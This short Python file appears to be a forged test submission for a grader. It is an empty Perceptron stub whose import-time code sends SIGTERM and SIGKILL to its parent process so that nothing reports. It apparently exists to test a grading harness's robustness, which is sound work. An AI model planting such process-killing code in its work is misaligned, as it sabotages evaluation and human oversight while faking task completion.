"""Forged: an empty perceptron that tries to end the process that started it, so nothing reports."""

import os
import signal

for _sig in (signal.SIGTERM, signal.SIGKILL):
    os.kill(os.getppid(), _sig)


class Perceptron:
    def __init__(self, w, b):
        pass

    def run(self, x):
        return None
